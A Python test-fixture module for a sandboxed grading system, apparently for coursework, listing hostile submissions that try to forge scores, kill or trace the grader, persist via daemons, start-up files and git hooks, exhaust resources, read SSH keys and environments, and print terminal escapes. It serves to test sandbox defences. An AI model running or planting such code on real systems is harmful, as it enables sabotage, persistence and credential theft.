"""Hostile submissions: what each one tries when it is imported, and what it would have reached.

Every one of them is put before an app that is no more than a stub. It knows more than a real one would: ``facts`` has
the paths, the port and the names of what it is after. All are bounded: 60 seconds, 50 processes, 300 MB of files, 2 GiB
of memory, this machine only. Signals go to the grader of the test and to nobody else.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True, slots=True)
class Attack:
    """``code`` runs when the app is imported, with ``facts``. ``row`` is what kind it is of.

    ``is_quiet``: it can be tried together with others. ``needs_namespaces``: it is out of the reach of tier C.
    """

    row: str
    code: str
    is_quiet: bool = True
    needs_namespaces: bool = False


#: Before each attack.
PRELUDE = """
import ctypes, json, os, pathlib, resource, signal, socket, subprocess, sys, threading, time
facts = json.loads(pathlib.Path(__file__).with_name("facts.json").read_text())
libc = ctypes.CDLL(None, use_errno=True)
grader = os.getppid()

def attempt(act):
    try:
        act()
    except (OSError, ImportError, subprocess.SubprocessError):
        pass
"""
#: The app itself: it boots, and earns nothing.
STUB = """
print("the attack has been made", flush=True)

async def app(scope, receive, send):
    if scope["type"] == "http":
        await send({"type": "http.response.start", "status": 501, "headers": [(b"content-length", b"0")]})
        await send({"type": "http.response.body"})
"""
_FULL_MARKS = '{"format": 3, "points": 36, "possible": 36, "exit_code": 0}'

ATTACKS = {
    # -- forgery: full marks that nobody has earned
    "writes the report before the grader": Attack(
        "forgery", f"attempt(lambda: pathlib.Path(facts['report']).write_text({_FULL_MARKS!r}))"
    ),
    "a daemon writes the report after the grader": Attack(
        "forgery",
        f"""
if os.fork() == 0:
    os.setsid()
    for _ in range(100):
        attempt(lambda: pathlib.Path(facts['report']).write_text({_FULL_MARKS!r}))
        time.sleep(0.1)
    os._exit(0)
""",
        is_quiet=False,
    ),
    "puts a folder where the report goes": Attack("forgery", "attempt(lambda: os.mkdir(facts['report']))"),
    "puts a link where the report goes": Attack(
        "forgery", "attempt(lambda: os.symlink(facts['neighbour'], facts['report']))"
    ),
    "kills the grader": Attack("forgery", "attempt(lambda: os.kill(grader, signal.SIGKILL))", is_quiet=False),
    "stops the grader": Attack("forgery", "attempt(lambda: os.kill(grader, signal.SIGSTOP))", is_quiet=False),
    "signals by a descriptor of the process": Attack(
        "forgery", "attempt(lambda: signal.pidfd_send_signal(os.pidfd_open(grader), signal.SIGKILL))", is_quiet=False
    ),
    "traces the grader": Attack("forgery", "libc.ptrace(16, grader, None, None)", is_quiet=False),
    "writes the grader's memory": Attack(
        "forgery",
        """
def write():
    with open(f"/proc/{grader}/mem", "r+b", 0) as memory:
        memory.seek(int(open(f"/proc/{grader}/maps").read().split("-")[0], 16))
        memory.write(memory.read(1))
        print(facts["found"], "memory")
attempt(write)
""",
    ),
    "reads the seed from the grader's command line": Attack(
        "forgery", "attempt(lambda: print(open(f'/proc/{grader}/cmdline').read()))"
    ),
    "serves the solution": Attack(
        "forgery",
        """
import glob, runpy
for file in glob.glob(f"{facts['solutions']}/*.py"):
    attempt(lambda: globals().update(served=runpy.run_path(file)["app"]))
""",
        is_quiet=False,
    ),
    "rewrites the specification": Attack(
        "forgery", "attempt(lambda: pathlib.Path(facts['specification']).write_text('# nothing is graded'))"
    ),
    "lies on the status pipe": Attack(
        "forgery",
        """
for descriptor in range(3, 20):
    attempt(lambda: os.write(descriptor, b'{"status": "ready"}\\n{"status": "stopped", "error": ""}\\n'))
""",
        is_quiet=False,
    ),
    "pulls by a side door, and gives what it likes": Attack(
        "forgery",
        """
def pull():
    host, _, port = os.environ["STREAM_KATAS_UPSTREAM"].rpartition(":")
    with socket.create_connection((host, int(port)), timeout=2) as upstream:
        upstream.sendall(b'{"open": "nobody"}\\npull\\n')
        upstream.recv(100)
attempt(pull)
""",
    ),
    "takes the grader's sockets": Attack(
        "forgery",
        """
def take():
    process = os.pidfd_open(grader)
    for number in range(3, 40):
        copy = libc.syscall(438, process, number, 0)
        if copy >= 0:
            print(facts["found"], "a descriptor")
            os.close(copy)
attempt(take)
""",
    ),
    "prints into the grader's output": Attack(
        "forgery", "attempt(lambda: open(f'/proc/{grader}/fd/1', 'w').write(facts['found']))"
    ),
    "takes the grader's limits away": Attack(
        "forgery",
        """
attempt(lambda: resource.prlimit(grader, resource.RLIMIT_NOFILE, (0, 0)))
attempt(lambda: os.sched_setaffinity(grader, {0}))
attempt(lambda: os.setpriority(os.PRIO_PROCESS, grader, 19))
def slow_down(kind):  # with 0 it would be all of this user, and so the grader; nobody has this number
    try:
        os.setpriority(kind, os.getpid(), 19)
    except ProcessLookupError:
        print(facts["found"], "a user or a group")
attempt(lambda: slow_down(os.PRIO_USER))
attempt(lambda: slow_down(os.PRIO_PGRP))
""",
    ),
    "looks for any process that it could signal": Attack(
        "forgery",
        """
own = set(map(int, os.listdir("/proc/self/task")))
for pid in range(2, 32768):
    if pid not in own:
        attempt(lambda: (os.kill(pid, 0), print(facts["found"], "process", pid)))
""",
        is_quiet=False,
    ),
    "makes the tools of the class its own": Attack(
        "forgery",
        """
folder = pathlib.Path(__file__).parent / "katas" / facts["kata"]
(folder / "spec").mkdir(parents=True, exist_ok=True)
(folder / "kata.toml").write_text('title = "Mine"')
(folder / "spec" / "test_mine.py").write_text("")
""",
    ),
    # -- survival: it is there when the grade is over
    "a daemon stays": Attack(
        "survival",
        """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.closerange(0, 256)
        os.execve("/bin/sleep", ["sleep", "60"], {})
    os._exit(0)
""",
    ),
    "each process of it has a successor": Attack(
        "survival",
        """
if os.fork() == 0:
    for _ in range(40):
        os.setsid() if os.getpid() != os.getsid(0) else None
        if os.fork():
            time.sleep(0.05)
            os._exit(0)
    os._exit(0)
""",
        is_quiet=False,
    ),
    "its processes are in namespaces of their own": Attack(
        "survival",
        "attempt(lambda: subprocess.Popen(['unshare', '-Upf', 'sleep', '60'], stderr=subprocess.DEVNULL, env={}))",
    ),
    "becomes root": Attack(
        "survival", "attempt(lambda: os.setresuid(0, 0, 0) or print(facts['found'], 'root') if os.getuid() else None)"
    ),
    "leaves files": Attack(
        "survival",
        """
for place in (facts["home"], "/tmp", "/var/tmp", "/dev/shm", "/etc/cron.d", "/etc", facts["class"], facts["libraries"]):
    attempt(lambda: pathlib.Path(place, facts["marker"]).write_text("x"))
""",
    ),
    "leaves folders that are hard to remove": Attack(
        "survival",
        """
def nest(place):
    os.mkdir(f"{place}/{facts['marker']}-unlistable", 0o300)
    pathlib.Path(f"{place}/{facts['marker']}-unlistable/file").write_text("x")
    os.mkdir(f"{place}/{facts['marker']}-deep")
    here = os.open(f"{place}/{facts['marker']}-deep", os.O_RDONLY)
    for _ in range(1500):
        os.mkdir("d", dir_fd=here)
        before, here = here, os.open("d", os.O_RDONLY, dir_fd=here)
        os.close(before)
for place in (os.environ["TMPDIR"], os.environ["HOME"], "/dev/shm"):
    attempt(lambda: nest(place))
""",
    ),
    "writes into the shell's and Python's start-up": Attack(
        "survival",
        """
attempt(lambda: pathlib.Path(facts["home"], ".bashrc").write_text("x"))
attempt(lambda: pathlib.Path(facts["libraries"], f"{facts['marker']}.pth").write_text("import os"))
attempt(lambda: pathlib.Path(facts["libraries"], "usercustomize.py").write_text("x"))
""",
    ),
    "poisons the bytecode of the grader": Attack(
        "survival",
        """
def poison():
    import importlib.util
    cache = importlib.util.cache_from_source(importlib.util.find_spec("grader.kit").origin)
    with open(cache, "r+b") as file:
        print(facts["found"], "bytecode")
attempt(poison)
""",
    ),
    "edits the neighbour's app and the scores": Attack(
        "survival",
        """
attempt(lambda: pathlib.Path(facts["neighbour"]).write_text("stolen"))
attempt(lambda: pathlib.Path(facts["class"], ".stream-katas.json").write_text("{}"))
""",
    ),
    "leaves a git hook": Attack(
        "survival",
        """
hooks = pathlib.Path(facts["class"], ".git", "hooks")
attempt(lambda: (hooks / "post-checkout").write_text("#!/bin/sh"))
""",
    ),
    "changes modes and times": Attack(
        "survival",
        """
attempt(lambda: os.chmod(facts["neighbour"], 0))
attempt(lambda: os.utime(facts["neighbour"], (1, 1)))
attempt(lambda: os.setxattr(facts["neighbour"], "user.attack", b"x"))
""",
    ),
    "removes and moves": Attack(
        "survival",
        """
attempt(lambda: os.unlink(facts["neighbour"]))
attempt(lambda: os.rename(facts["home"], facts["home"] + "-gone"))
""",
    ),
    # -- exhaustion: the machine, or the grader, has no more
    "takes memory": Attack("exhaustion", "held = [bytearray(b'x') * (100 << 20) for _ in range(15)]", is_quiet=False),
    "its processes take memory": Attack(
        "exhaustion",
        """
for _ in range(4):
    if os.fork() == 0:
        held = bytearray(b"x") * (450 << 20)
        time.sleep(30)
        os._exit(0)
time.sleep(2)
""",
        is_quiet=False,
    ),
    "takes memory that no process has": Attack(
        "exhaustion",
        """
def fill():
    for number in range(3):
        descriptor = os.memfd_create("memory")
        print(facts["found"], "memory without a name")
attempt(fill)
""",
    ),
    "takes memory of the kernel": Attack(
        "exhaustion",
        """
def fill():
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    pairs = []
    while len(pairs) < 600:
        pairs.append(socket.socketpair())
    print(facts["found"], "more than a thousand sockets, and what waits in them")
attempt(fill)
""",
    ),
    "fills the disk": Attack(
        "exhaustion",
        """
for number in range(3):
    attempt(lambda: pathlib.Path(f"big-{number}").write_bytes(bytes(100 << 20)))
""",
        is_quiet=False,
    ),
    "prints without end": Attack(
        "exhaustion",
        """
end = time.monotonic() + 2
while time.monotonic() < end:
    print("x" * 100_000)
""",
        is_quiet=False,
    ),
    "floods the status pipe": Attack(
        "exhaustion",
        """
def flood():
    for _ in range(200):
        for descriptor in range(3, 12):
            attempt(lambda: os.set_blocking(descriptor, False) or os.write(descriptor, b"x" * 65536))
flood()
""",
        is_quiet=False,
    ),
    "floods the upstream with lines": Attack(
        "exhaustion",
        """
def flood():
    host, _, port = os.environ["STREAM_KATAS_UPSTREAM"].rpartition(":")
    with socket.create_connection((host, int(port)), timeout=2) as upstream:
        upstream.sendall(b'{"open": "nobody"}\\n')
        upstream.sendall(b"pull\\n" * 1_000_000)
attempt(flood)
""",
    ),
    "stops itself": Attack(
        "exhaustion", "threading.Timer(0.5, lambda: os.kill(os.getpid(), signal.SIGSTOP)).start()", is_quiet=False
    ),
    # -- exfiltration: what is not its own gets out
    "reads the home folder and its keys": Attack(
        "exfiltration",
        """
for name in ("secret", ".ssh/id_ed25519"):
    attempt(lambda: print(pathlib.Path(facts["home"], name).read_text()))
""",
    ),
    "reads the grader's environment": Attack(
        "exfiltration",
        """
print(dict(os.environ))
for pid in {grader, facts["runner"]}:
    attempt(lambda: print(open(f"/proc/{pid}/environ").read()))
""",
    ),
    "reads the specification": Attack(
        "exfiltration", "attempt(lambda: print(pathlib.Path(facts['specification']).read_text()))"
    ),
    "reads the neighbour's app": Attack(
        "exfiltration", "attempt(lambda: print(pathlib.Path(facts['neighbour']).read_text()))"
    ),
    "watches the neighbour's folder": Attack(
        "exfiltration",
        """
if libc.inotify_add_watch(libc.inotify_init1(0), os.path.dirname(facts["neighbour"]).encode(), 0x100) != -1:
    print(facts["found"], "a folder to watch")
""",
    ),
    "goes by links": Attack(
        "exfiltration",
        """
attempt(lambda: os.symlink(facts["specification"], "link"))
attempt(lambda: print(open("link").read()))
attempt(lambda: os.link(facts["specification"], "hard"))
attempt(lambda: print(open("hard").read()))
attempt(lambda: print(open(f"/proc/{grader}/root{facts['specification']}").read()))
attempt(lambda: print(open(f"/proc/{grader}/cwd/README.md").read()))
""",
    ),
    "sends to other servers": Attack(
        "exfiltration",
        """
def send(family, kind, address):
    with socket.socket(family, kind) as one:
        one.settimeout(2)
        one.connect(address)
        one.send(b"here it is")
attempt(lambda: send(socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", facts["port"])))
attempt(lambda: send(socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", facts["datagrams"])))
attempt(lambda: send(socket.AF_UNIX, socket.SOCK_STREAM, "\\0" + facts["abstract"]))
attempt(lambda: socket.socket().sendto(b"here it is", 0x20000000, ("127.0.0.1", facts["port"])))
""",
    ),
    "waits for visitors": Attack(
        "exfiltration",
        """
def listen():
    with socket.socket() as one:
        one.listen()  # without bind(2), at a free port of all addresses
        if one.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN) and grader != 1:  # 1: the network is its own, too
            print(facts["found"], "a listener")
attempt(listen)
""",
    ),
    "uses a socket by its path": Attack(
        "exfiltration",
        """
def connect():
    with socket.socket(socket.AF_UNIX) as one:
        one.connect(facts["path"])
def reconnect(kind):
    one, other = socket.socketpair(socket.AF_UNIX, kind)
    other.close()
    one.connect(facts["path"] + ".datagrams")
    one.send(b"here it is")
attempt(connect)
attempt(lambda: reconnect(socket.SOCK_DGRAM))
attempt(lambda: reconnect(socket.SOCK_RAW))
""",
    ),
    "writes into other people's queues and memory": Attack(
        "exfiltration",
        """
def is_open(found):
    if found != -1:
        print(facts["found"], "something of System V")
libc.shmat.restype = ctypes.c_ssize_t
is_open(libc.msgsnd(facts["queue"], b"x" * 16, 8, 0o4000))
is_open(libc.shmat(facts["memory"], None, 0))
is_open(libc.semop(facts["semaphore"], b"\\0\\0\\1\\0\\0\\0", 1))
""",
    ),
    "listens to other people's requests": Attack(
        "exfiltration",
        "attempt(lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) and print(facts['found'], 'packets'))",
    ),
    "writes into the files of a workflow": Attack(
        "exfiltration", "attempt(lambda: open(facts['workflow'], 'a').write('PATH=/tmp/mine'))"
    ),
    # -- output: the report does something to its reader
    "prints commands for terminals and workflows": Attack(
        "output",
        """
print("\\x1b]0;title\\x07\\x1b[2J\\u202e<script>alert(1)</script>")
print("::add-mask::x\\n##[command]x\\n::set-output name=x::y")
""",
    ),
    "prints what JSON cannot hold": Attack(
        "output", "sys.stdout.buffer.write(b'\\xed\\xa0\\x80 \\xff NaN\\n')\nsys.stdout.flush()"
    ),
}
